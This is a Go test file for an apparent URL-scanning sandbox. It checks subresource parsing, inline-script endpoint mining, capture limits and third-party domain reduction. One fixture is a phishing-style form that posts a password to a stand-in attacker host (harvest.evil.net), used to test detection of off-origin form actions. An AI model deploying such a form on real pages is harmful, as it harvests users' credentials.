package sandbox

import (
	"context"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/urlsentry/urlsentry/internal/model"
)

// TestPageParser tests subresource extraction from HTML.
func TestPageParser(t *testing.T) {
	t.Parallel()

	t.Run("extracts typed subresources", func(t *testing.T) {
		t.Parallel()

		page := `<html><head>
			<link rel="stylesheet" href="/app.css">
			<link rel="icon" href="/favicon.ico">
			<script src="https://cdn.example.net/lib.js"></script>
		</head><body>
			<img src="/logo.png">
			<iframe src="https://ads.example.org/frame"></iframe>
		</body></html>`

		parser, err := newPageParser("https://example.com/page")
		if err != nil {
			t.Fatalf("failed to create parser: %v", err)
		}

		refs, err := parser.parse(strings.NewReader(page))
		if err != nil {
			t.Fatalf("failed to parse: %v", err)
		}

		if len(refs) != 5 {
			t.Fatalf("expected 5 refs, got %d: %v", len(refs), refs)
		}

		expected := map[string]model.ResourceType{
			"https://example.com/app.css":     model.ResourceStylesheet,
			"https://example.com/favicon.ico": model.ResourceImage,
			"https://cdn.example.net/lib.js":  model.ResourceScript,
			"https://example.com/logo.png":    model.ResourceImage,
			"https://ads.example.org/frame":   model.ResourceFrame,
		}
		for _, ref := range refs {
			want, ok := expected[ref.url]
			if !ok {
				t.Errorf("unexpected ref %q", ref.url)
				continue
			}
			if ref.resourceType != want {
				t.Errorf("ref %q: got type %s, expected %s", ref.url, ref.resourceType, want)
			}
		}
	})

	t.Run("mines inline scripts for API endpoints", func(t *testing.T) {
		t.Parallel()

		page := `<html><body><script>
			fetch("https://api.collect.io/v1/beacon");
			var xhr = new XMLHttpRequest();
			xhr.open("POST", "https://sync.tracker.net/pixel", true);
			fetch(buildURL());
		</script></body></html>`

		parser, err := newPageParser("https://example.com/")
		if err != nil {
			t.Fatalf("failed to create parser: %v", err)
		}

		refs, err := parser.parse(strings.NewReader(page))
		if err != nil {
			t.Fatalf("failed to parse: %v", err)
		}

		if len(refs) != 2 {
			t.Fatalf("expected 2 refs, got %d: %v", len(refs), refs)
		}
		for _, ref := range refs {
			if ref.resourceType != model.ResourceFetch {
				t.Errorf("ref %q: got type %s, expected fetch", ref.url, ref.resourceType)
			}
		}
	})

	t.Run("skips non-network schemes", func(t *testing.T) {
		t.Parallel()

		page := `<html><body>
			<img src="data:image/png;base64,iVBORw0KGgo=">
			<script src="javascript:void(0)"></script>
			<iframe src="about:blank"></iframe>
		</body></html>`

		parser, err := newPageParser("https://example.com/")
		if err != nil {
			t.Fatalf("failed to create parser: %v", err)
		}

		refs, err := parser.parse(strings.NewReader(page))
		if err != nil {
			t.Fatalf("failed to parse: %v", err)
		}

		if len(refs) != 0 {
			t.Errorf("expected no refs, got %v", refs)
		}
	})

	t.Run("captures off-origin form actions", func(t *testing.T) {
		t.Parallel()

		page := `<html><body>
			<form action="https://harvest.evil.net/submit" method="POST">
				<input type="password" name="pw">
			</form>
		</body></html>`

		parser, err := newPageParser("https://example.com/login")
		if err != nil {
			t.Fatalf("failed to create parser: %v", err)
		}

		refs, err := parser.parse(strings.NewReader(page))
		if err != nil {
			t.Fatalf("failed to parse: %v", err)
		}

		if len(refs) != 1 || refs[0].url != "https://harvest.evil.net/submit" {
			t.Fatalf("expected the form action ref, got %v", refs)
		}
	})
}

// TestCollectorCollect tests the full capture flow against a local server.
func TestCollectorCollect(t *testing.T) {
	t.Parallel()

	mux := http.NewServeMux()
	mux.HandleFunc("/", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		_, _ = w.Write([]byte(`<html><head>
			<link rel="stylesheet" href="/style.css">
		</head><body>
			<img src="/banner.png">
			<script src="/app.js"></script>
		</body></html>`))
	})
	mux.HandleFunc("/style.css", func(w http.ResponseWriter, _ *http.Request) {
		w.WriteHeader(http.StatusOK)
	})
	mux.HandleFunc("/banner.png", func(w http.ResponseWriter, _ *http.Request) {
		w.WriteHeader(http.StatusNotFound)
	})
	mux.HandleFunc("/app.js", func(w http.ResponseWriter, _ *http.Request) {
		w.WriteHeader(http.StatusOK)
	})

	server := httptest.NewServer(mux)
	defer server.Close()

	collector := NewCollector(server.Client())
	capture, err := collector.Collect(context.Background(), server.URL+"/")
	if err != nil {
		t.Fatalf("collect failed: %v", err)
	}

	if !capture.Completed {
		t.Error("expected a completed capture")
	}
	// Document + 3 subresources.
	if len(capture.Records) != 4 {
		t.Fatalf("expected 4 records, got %d: %v", len(capture.Records), capture.Records)
	}

	doc := capture.Records[0]
	if doc.ResourceType != model.ResourceDocument || doc.Status != http.StatusOK {
		t.Errorf("unexpected document record: %+v", doc)
	}

	statuses := make(map[string]int)
	for _, r := range capture.Records[1:] {
		statuses[r.URL] = r.Status
	}
	if statuses[server.URL+"/banner.png"] != http.StatusNotFound {
		t.Errorf("expected 404 for banner.png, got %d", statuses[server.URL+"/banner.png"])
	}
	if statuses[server.URL+"/app.js"] != http.StatusOK {
		t.Errorf("expected 200 for app.js, got %d", statuses[server.URL+"/app.js"])
	}

	// Everything is same-origin here.
	if len(capture.ThirdPartyDomains) != 0 {
		t.Errorf("expected no third-party domains, got %v", capture.ThirdPartyDomains)
	}
}

// TestCollectorPartialCapture tests that an unreachable target degrades to
// an incomplete capture instead of an error.
func TestCollectorPartialCapture(t *testing.T) {
	t.Parallel()

	server := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, _ *http.Request) {}))
	client := server.Client()
	server.Close() // target is now unreachable

	collector := NewCollector(client)
	capture, err := collector.Collect(context.Background(), server.URL+"/")
	if err != nil {
		t.Fatalf("collect failed: %v", err)
	}

	if capture.Completed {
		t.Error("expected an incomplete capture")
	}
	if len(capture.Records) != 1 {
		t.Fatalf("expected only the document record, got %d", len(capture.Records))
	}
	if capture.Records[0].Status != 0 {
		t.Errorf("expected status 0 for unobserved response, got %d", capture.Records[0].Status)
	}
}

// TestCollectorRejectsBadTarget tests the only hard failure: a target URL
// the collector cannot even attempt.
func TestCollectorRejectsBadTarget(t *testing.T) {
	t.Parallel()

	collector := NewCollector(http.DefaultClient)

	if _, err := collector.Collect(context.Background(), "ftp://example.com/"); err == nil {
		t.Error("expected an error for a non-HTTP scheme")
	}
	if _, err := collector.Collect(context.Background(), "http://bad url/"); err == nil {
		t.Error("expected an error for an unparseable URL")
	}
}

// TestCollectorMaxRequests tests the capture cap on asset-heavy pages.
func TestCollectorMaxRequests(t *testing.T) {
	t.Parallel()

	var page strings.Builder
	page.WriteString("<html><body>")
	for range 50 {
		page.WriteString(`<img src="/a.png">`)
	}
	page.WriteString("</body></html>")

	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		_, _ = w.Write([]byte(page.String()))
	}))
	defer server.Close()

	collector := NewCollector(server.Client(), WithMaxRequests(10), WithoutStatusProbing())
	capture, err := collector.Collect(context.Background(), server.URL+"/")
	if err != nil {
		t.Fatalf("collect failed: %v", err)
	}

	// Document + capped subresources.
	if len(capture.Records) != 11 {
		t.Errorf("expected 11 records, got %d", len(capture.Records))
	}
}

// TestThirdPartyDomains tests registrable-domain reduction and ordering.
func TestThirdPartyDomains(t *testing.T) {
	t.Parallel()

	records := []model.NetworkRequestRecord{
		{Domain: "example.com"},
		{Domain: "static.example.com"}, // same registrable domain
		{Domain: "cdn.assets.net"},
		{Domain: "img.assets.net"}, // dedupes with the one above
		{Domain: "ads.example.org"},
		{Domain: "203.0.113.7"}, // IPs pass through as-is
	}

	got := thirdPartyDomains(records, "www.example.com")

	expected := []string{"203.0.113.7", "ads.example.org", "assets.net"}
	if len(got) != len(expected) {
		t.Fatalf("got %v, expected %v", got, expected)
	}
	for i := range expected {
		if got[i] != expected[i] {
			t.Errorf("position %d: got %q, expected %q", i, got[i], expected[i])
		}
	}
}
